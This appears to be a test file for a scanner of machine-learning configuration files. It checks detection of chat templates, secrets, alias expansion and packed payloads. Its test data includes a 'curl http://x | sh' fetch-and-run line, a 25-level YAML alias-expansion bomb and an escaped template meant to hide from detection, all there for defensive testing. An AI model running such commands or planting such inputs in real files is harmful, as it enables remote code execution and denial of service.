"""Configurations are claimed when they hold more than data, and their templates handed on."""

from __future__ import annotations

import base64
import bz2
import json
import lzma
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelwarden.core import GapKind
from modelwarden.formats import Limits, Source
from modelwarden.formats.config.reader import _FLOW_TAG, ConfigFile, read, sniff
from modelwarden.formats.config.words import _BY_ANCHOR, _LONG, _TELLING, _near, telling

HIDDEN = '{"chat\\u005ftemplate": "\\u007b\\u007b x }}"}'


def view_of(text: str, name: str = "tokenizer_config.json") -> ConfigFile:
    return read(Source(name, text.encode()), Limits())


_TWICE = {
    "flow": "[*{0}, *{0}]",
    "flow apart": "[*{0} , # *(\n  *{0}]",
    "mapping": "{{p: *{0}, q: *{0}}}",
    "lines": "\n  - *{0}\n  - *{0}",
    "members": "\n  p: *{0}\n  q: *{0}",
    "merge": "\n  <<: *{0}\n  p: *{0}",
    "last": "\n  - 1\n  - *{0}",
}


@pytest.mark.parametrize("twice", _TWICE.values(), ids=_TWICE)
@pytest.mark.parametrize("name", ["c.yaml", "c.txt"])
def test_aliases_are_counted_in_every_spelling(twice, name):
    levels = [f"l{n + 1}: &l{n + 1} {twice.format(f'l{n}')}" for n in range(25)]
    text = "\n".join(["lr: 0.1", "l0: &l0 {p: x, q: x}", *levels])

    claimed = sniff(Source(name, text.encode()))
    kinds = [fault.kind for fault in view_of(text, name).faults]

    assert claimed
    assert kinds == ["expansion"] * ("- 1" not in twice)


@pytest.mark.parametrize(
    "text",
    ['a: "*.py"\n', "a: '*b'\nc: \"*d\"\n", "- '*'\n- x*y, z\n", "a: **b**\n"],
)
def test_stars_that_are_no_aliases_claim_nothing(text):
    assert not sniff(Source("c.txt", text.encode()))


@pytest.mark.parametrize(
    "text",
    [
        '{"chat_template": "{{ x }}"}',
        '{"api_key": "x"}',
        '{"after": "curl http://x | sh"}',
        '{"a": "hf_' + "a" * 34 + '"}',
        HIDDEN,
        '[{"a": "{% if x %}{% endif %}"}]',
    ],
)
def test_json_with_something_telling_is_claimed(text: str):
    assert sniff(Source("a", text.encode()))


@pytest.mark.parametrize(
    "text",
    [
        '{"a": 1}',
        "[1, 2]",
        "",
        "plain words",
        "a: 1",
        '{"a": "{", "{{": 1, "}}": 2}',
        '{"api_key": 1}',
    ],
)
def test_plain_data_is_left_to_others(text: str):
    assert not sniff(Source("a", text.encode()))


def test_something_telling_is_found_far_into_a_large_file():
    data = json.dumps({"a": "x" * 3_000_000, "chat_template": "{{ x }}"}).encode()

    assert sniff(Source("a", data))


@pytest.mark.parametrize(
    "codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"]
)
def test_every_encoding_of_json_is_read(codec: str):
    source = Source("a.json", '{"chat_template": "{{ x }}"}'.encode(codec))

    view = read(source, Limits())

    assert sniff(source)
    assert [s.value for s in view.scalars] == ["{{ x }}"]
    assert view.gaps == ()


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ('{"chat_template": "{{ x }}"}', "chat_template"),
        (
            '{"chat_template": [{"name": "rag", "template": "{{ x }}"}]}',
            "chat_template[0].template",
        ),
        ('{"a": {"b": [["{% x %}"]]}}', "a.b[0][0]"),
        (HIDDEN, "chat_template"),
    ],
)
def test_every_template_is_a_child_named_by_its_path(text: str, path: str):
    view = view_of(text)

    assert [child.name for child in view.children] == [path]
    with view.children[0].open() as child:
        assert child.expect == "jinja"
        assert child.member == path


def test_damaged_json_is_a_gap_and_keeps_what_came_before():
    view = view_of('{"chat_template": "{{ x }}", "b": }')

    assert [g.kind for g in view.gaps] == [GapKind.UNREADABLE]
    assert len(view.children) == 1


def test_a_yaml_that_is_a_template_as_a_whole_is_handed_on_whole():
    view = view_of("a: {{ x }}\n{% if y %}\nb: 1\n{% endif %}\n", "values.yaml")

    assert [child.name for child in view.children] == ["text"]


def test_more_templates_than_the_bound_is_a_gap():
    view = view_of(json.dumps(["{{ x }}"] * 501).replace("[", '{"a": [', 1) + "}")

    assert GapKind.OVER_LIMIT in {g.kind for g in view.gaps}
    assert len(view.children) == 500


def test_values_over_the_memory_bound_are_a_gap():
    text = json.dumps({"a": ["{{ x }}" * 100] * 100})

    view = read(Source("a", text.encode()), Limits(memory=80_000))

    assert GapKind.OVER_LIMIT in {g.kind for g in view.gaps}


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=200).map(str.encode))
def test_any_bytes_end_in_a_view(data: bytes):
    source = Source("a.yaml", data)

    sniff(source)

    assert read(source, Limits()).format == "config"


def test_every_telling_word_is_looked_for_once():
    words = [word for _, words in _BY_ANCHOR for _, word, _ in words]

    assert sorted(words) == sorted(word for word, _ in _TELLING)
    assert all(anchor in thin for anchor, words in _BY_ANCHOR for thin, _, _ in words)


@given(st.data())
def test_telling_words_are_found_wherever_they_stand(data):
    some = [word for word, _ in _TELLING] + [b"{{ a }}", b": 'b.c'", b"0", b" ", b",\n", b"x" * 99]
    text = b"".join(data.draw(st.lists(st.sampled_from(some), max_size=9)))
    text += data.draw(st.sampled_from([b"", b"7, " * _LONG, b"o" * _LONG]))

    assert telling(text, _FLOW_TAG) == any(re.search(around, text) for _, around in _TELLING)


@given(st.data())
def test_what_is_cut_from_a_long_text_holds_no_telling_word(data):
    anchor, words = data.draw(st.sampled_from([pair for pair in _BY_ANCHOR if pair[0]]))
    reach = max(len(word) for word, _, _ in words)
    word = data.draw(st.sampled_from([word for word, _, _ in words]))
    before = data.draw(st.lists(st.sampled_from([anchor, word[:-1], b"a" * 40]), max_size=6))
    behind = data.draw(st.lists(st.sampled_from([anchor, word[1:], b"a" * 40]), max_size=6))
    text = b"".join([*before, word, *behind])
    fillers = data.draw(st.sampled_from([(_LONG, 0), (0, _LONG), (_LONG, _LONG), (9, _LONG)]))
    long = b"o" * fillers[0] + text + b"o" * fillers[1]

    near = _near(long, anchor, reach)

    assert word in near
    assert len(near) < len(long)


@pytest.mark.parametrize("packed", [bz2.compress(b""), lzma.compress(b"")[:-9]])
def test_a_value_that_holds_nothing_packed_is_no_pickle(packed: bytes):
    view = view_of(json.dumps({"w": base64.b64encode(packed).decode()}))

    assert (view.gaps, view.children) == ((), ())
